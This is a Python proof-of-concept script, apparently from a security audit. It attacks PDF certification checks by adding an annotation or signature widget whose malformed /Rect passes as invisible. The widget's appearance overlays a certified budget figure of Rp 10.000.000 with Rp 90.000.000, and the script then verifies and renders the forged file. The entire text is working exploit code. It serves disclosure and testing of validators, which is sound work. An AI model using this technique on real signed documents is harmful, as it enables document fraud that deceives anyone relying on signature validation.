# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 7 candidate: COMMENT_ADDED under P=3 measures the appearance by /Rect; a /Rect
# that is not exactly 4 numbers reads as 0x0 ("not visible"), so any /AP passes.
# The same rectSize() makes a new signature widget 'invisible', allowed under P=2.
#   python3 a6_comment_rect.py VARIANT [text|sig]   (VARIANT: rect5 | rect3 | rectname)
from common import *
import sys
var = sys.argv[1]
kind = sys.argv[2] if len(sys.argv) > 2 else "text"   # text (P=3 comment) | sig (P=2 signature widget) | sigv (same, /V = the certifier's signature dictionary)
OLD = b"BT /F1 24 Tf 72 720 Td (Jumlah anggaran: Rp 10.000.000) Tj ET"
NEW = b"q 1 1 1 rg 0 0 500 60 re f Q BT /F1 24 Tf 0 0 1 rg 12 20 Td (Jumlah anggaran: Rp 90.000.000) Tj ET"
objs = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        4: stream(OLD), 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
rect = {"rect5": b"[60 700 560 760 0]", "rectname": b"[60 700 /W 760]", "rect3": b"[60 700 560]"}[var]
tag = "a6-" + var + ("" if kind == "text" else "-" + kind)
src = write(tag + "-src.pdf", build(objs))
signed = sign(src, W + "/" + tag + "-signed.pdf", "--certify", "3" if kind == "text" else "2")
p = pdftool.Pdf(signed); n = p.size()
page = p.object(3)
import re
page = re.sub(rb"(/Annots \[[^\]]*)\]", lambda m: m.group(1) + b" %d 0 R]" % n, page) if b"/Annots [" in page else page[:-2].rstrip() + b" /Annots [%d 0 R] >>" % n
f = write(tag + "-attack.pdf", update(signed, {3: page,
    n: (b"<< /Type /Annot /Subtype /Text /Rect %s /F 4 /Contents (catatan) /AP << /N %d 0 R >> >>" if kind == "text" else b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (x) /Rect %s /F 4 /AP << /N %d 0 R >> %s>>") % ((rect, n + 1) + ((b"/V 6 0 R " if kind == "sigv" else b""),) if kind != "text" else (rect, n + 1)),
    n + 1: stream(NEW, b"/Type /XObject /Subtype /Form /BBox [0 0 500 60] /Resources << /Font << /F1 5 0 R >> >> ")}))
verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
